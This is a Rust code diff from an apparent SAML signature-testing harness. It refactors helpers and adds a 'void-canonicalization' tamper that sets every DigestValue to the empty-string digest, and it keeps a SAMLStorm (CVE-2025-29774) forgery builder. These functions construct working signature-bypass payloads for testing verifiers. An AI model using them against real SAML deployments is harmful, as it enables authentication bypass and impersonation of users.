@@ -6,8 +6,9 @@
 use roxmltree::Document;
 
 use super::{
-    Edit, TamperContext, content_end, copy, id_edit, identity_edits, parse, signature_of,
-    signatures, signed_assertion, signed_name, splice,
+    Edit, TamperContext, content_end, copy, declare_namespace, id_edit, identity_edits, parse,
+    signature_of, signatures, signed_assertion, signed_assertion_and_signature, signed_name,
+    splice,
 };
 use crate::dsig;
 use crate::plan::SignatureSelector;
@@ -34,20 +35,6 @@ pub(super) fn digest_of(element: &str, ctx: &TamperContext<'_>) -> Result<String
     Ok(dsig::digest(ctx.digest, canonical.as_bytes()))
 }
 
-/// The signed assertion's signature, or a plan error naming the tampering.
-fn assertion_signature<'a, 'input>(
-    doc: &'a Document<'input>,
-    kind: &str,
-) -> Result<(roxmltree::Node<'a, 'input>, roxmltree::Node<'a, 'input>), PipelineError> {
-    let assertion = signed_assertion(doc)?;
-    let signature = signature_of(assertion).ok_or_else(|| {
-        PipelineError::Plan(format!(
-            "tamper `{kind}` needs a signed Assertion; use the layout `assertion`"
-        ))
-    })?;
-    Ok((assertion, signature))
-}
-
 /// SAMLStorm (CVE-2025-29774): an unsigned forgery before the signed assertion, and a second
 /// SignedInfo after the first whose Reference names the forgery with its correct digest.
 pub(super) fn second_signed_info(
@@ -57,7 +44,7 @@ pub(super) fn second_signed_info(
     ctx: &TamperContext<'_>,
 ) -> Result<String, PipelineError> {
     let original = signed_name(doc, "second-signed-info")?;
-    let (assertion, signature) = assertion_signature(doc, "second-signed-info")?;
+    let (assertion, signature) = signed_assertion_and_signature(doc, "second-signed-info")?;
     let forged_id = crate::xml::new_id();
     let mut forged_edits = identity_edits(assertion, &original, name_id);
     forged_edits.push((signature.range(), String::new()));
@@ -118,11 +105,11 @@ pub(super) fn forged_digest(
     let edited = {
         let doc = parse(xml)?;
         let original = signed_name(&doc, kind)?;
-        let (assertion, _) = assertion_signature(&doc, kind)?;
+        let (assertion, _) = signed_assertion_and_signature(&doc, kind)?;
         splice(xml, identity_edits(assertion, &original, name_id))
     };
     let doc = parse(&edited)?;
-    let (assertion, signature) = assertion_signature(&doc, kind)?;
+    let (assertion, signature) = signed_assertion_and_signature(&doc, kind)?;
     let digest = digest_of(&edited[assertion.range()], ctx)?;
     let edit: Edit = match place {
         DigestPlace::Comment => {
@@ -154,15 +141,46 @@ pub(super) fn odd_namespace(
     uri: &str,
 ) -> Result<Vec<Edit>, PipelineError> {
     let assertion = signed_assertion(doc)?;
-    let tag = &xml[assertion.range()];
-    let name_end = tag
-        .find(|c: char| c.is_whitespace() || c == '>' || c == '/')
-        .unwrap_or(tag.len());
-    let at = assertion.range().start + name_end;
-    Ok(vec![(
-        at..at,
-        format!(" xmlns:harness=\"{}\"", escape_attr(uri)),
-    )])
+    Ok(vec![declare_namespace(xml, assertion, "harness", uri)])
+}
+
+/// [`crate::plan::Tamper::VoidCanonicalization`]: every signed element declares a namespace
+/// with `uri`, and every DigestValue becomes the digest of the empty string.
+pub(super) fn void_canonicalization(
+    doc: &Document<'_>,
+    xml: &str,
+    uri: &str,
+    ctx: &TamperContext<'_>,
+) -> Result<Vec<Edit>, PipelineError> {
+    let mut edits = Vec::new();
+    for sig in signatures(doc, SignatureSelector::All) {
+        let signed = sig
+            .parent_element()
+            .ok_or_else(|| sign_error("a signature has no parent"))?;
+        edits.push(declare_namespace(xml, signed, "harness", uri));
+        edits.extend(empty_digests(xml, sig, ctx));
+    }
+    if edits.is_empty() {
+        return Err(PipelineError::Plan(
+            "tamper `void-canonicalization`: the response has no signature; use a signing layout"
+                .into(),
+        ));
+    }
+    Ok(edits)
+}
+
+/// Every DigestValue of `sig` set to the digest of the empty string (what a library that
+/// canonicalizes the referenced element to "" computes).
+pub(super) fn empty_digests(
+    xml: &str,
+    sig: roxmltree::Node<'_, '_>,
+    ctx: &TamperContext<'_>,
+) -> Vec<Edit> {
+    let empty = dsig::digest(ctx.digest, b"");
+    sig.descendants()
+        .filter(|n| n.has_tag_name((NS_DS, "DigestValue")))
+        .map(|value| (dsig::inner_range(xml, value), empty.clone()))
+        .collect()
 }
 
 /// Where [`re_sign_outside`] puts the new signature.
